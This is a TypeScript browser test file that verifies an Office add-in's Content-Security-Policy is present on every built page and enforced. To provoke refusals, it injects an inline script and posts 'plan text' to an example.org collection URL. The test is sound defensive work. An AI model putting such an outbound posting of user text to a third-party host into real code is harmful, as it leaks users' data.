/**
 * Every page the project serves (task pane, commands, preview, web page) carries the Content-Security-Policy (scripts from itself and Office.js's CDN only, no
 * inline script or eval, connections to itself only), and the browser enforces it: the pages work under it, an
 * injected inline script does not run, a request to another origin is refused.
 */
import fs from "node:fs";
import path from "node:path";
import type { Browser, Page } from "playwright-core";
import { openPage } from "./browser";
import { launchChromium } from "./browser";
// eslint-disable-next-line @typescript-eslint/no-require-imports -- the one CommonJS source of the policy, shared with webpack
const { CONTENT_SECURITY_POLICY } = require("../../scripts/content-security-policy.js") as { CONTENT_SECURITY_POLICY: string };

const DIST = path.resolve(__dirname, "../../dist");
/** Each served page and what shows it is running. */
const PAGES: { file: string; ready: (page: Page) => Promise<unknown> }[] = [
  { file: "taskpane.html", ready: (page) => page.getByRole("heading", { name: "Cải Tiến", level: 1 }).waitFor() },
  { file: "preview.html", ready: (page) => page.locator("#document [data-p-index]").first().waitFor() },
  { file: "commands.html", ready: (page) => page.waitForFunction(() => document.readyState === "complete") },
  { file: "web.html", ready: (page) => page.locator("#root *").first().waitFor() },
];

function directives(policy: string): Map<string, string[]> {
  return new Map(
    policy
      .split(";")
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([name, ...sources]) => [name!, sources]),
  );
}

let browser: Browser;
beforeAll(async () => {
  browser = await launchChromium();
});
afterAll(async () => {
  await browser?.close();
});

test("the policy allows scripts only from the page itself and Office.js's CDN, and connections only to itself", () => {
  const policy = directives(CONTENT_SECURITY_POLICY);
  expect(policy.get("script-src")).toEqual(["'self'", "https://appsforoffice.microsoft.com"]);
  expect(policy.get("connect-src")).toEqual(["'self'"]);
  expect(policy.get("default-src")).toEqual(["'self'"]);
  expect(policy.get("object-src")).toEqual(["'none'"]);
});

test("every built HTML page carries the policy in a meta element before any script", () => {
  const pages = fs.readdirSync(DIST).filter((f) => f.endsWith(".html"));
  expect(pages).toEqual(expect.arrayContaining(PAGES.map((p) => p.file)));
  for (const file of pages) {
    const html = fs.readFileSync(path.join(DIST, file), "utf8");
    const meta = /<meta http-equiv="?Content-Security-Policy"? content="([^"]*)"/.exec(html);
    expect({ file, policy: meta?.[1]?.replace(/&#39;/g, "'") }).toEqual({ file, policy: CONTENT_SECURITY_POLICY });
    const firstScript = html.indexOf("<script");
    expect(firstScript === -1 || meta!.index < firstScript).toBe(true);
    // No inline script at all: every <script> has a src.
    expect(html.match(/<script(?![^>]*\bsrc=)[^>]*>/g) ?? []).toEqual([]);
  }
});

test("the dev server sends the policy as a header", () => {
  // eslint-disable-next-line @typescript-eslint/no-require-imports -- webpack's own configuration file
  const [taskpane] = require("../../webpack.config.js") as [(env: unknown, argv: { mode: string }) => { devServer: { headers: Record<string, string> } }];
  expect(taskpane({}, { mode: "development" }).devServer.headers["Content-Security-Policy"]).toBe(CONTENT_SECURITY_POLICY);
});

describe.each(PAGES)("$file under its policy", ({ file, ready }) => {
  test("works, runs no inline script and reaches no other origin", async () => {
    const { page, consoleErrors } = await openPage(browser, file);
    await ready(page);
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener("securitypolicyviolation", (e) => violations.push(`${e.violatedDirective} ${e.blockedURI}`));
      const w = window as unknown as { inlineRan?: boolean };
      const script = document.createElement("script");
      script.textContent = "window.inlineRan = true";
      document.head.append(script);
      const fetched = await fetch("https://example.org/collect", { method: "POST", body: "plan text" }).then(
        () => "yes",
        () => "refused",
      );
      await new Promise((resolve) => setTimeout(resolve, 50));
      return { inlineRan: w.inlineRan === true, fetched, violations };
    });
    expect(outcome.inlineRan).toBe(false);
    expect(outcome.fetched).toBe("refused");
    expect(outcome.violations).toEqual(expect.arrayContaining([expect.stringMatching(/^script-src/), expect.stringMatching(/^connect-src https:\/\/example\.org/)]));
    // Loading the page itself broke no rule: the only refusals in the console are the two provoked above.
    expect(consoleErrors.filter((e) => !/inline script|example\.org/.test(e))).toEqual([]);
    await page.context().close();
  });
});
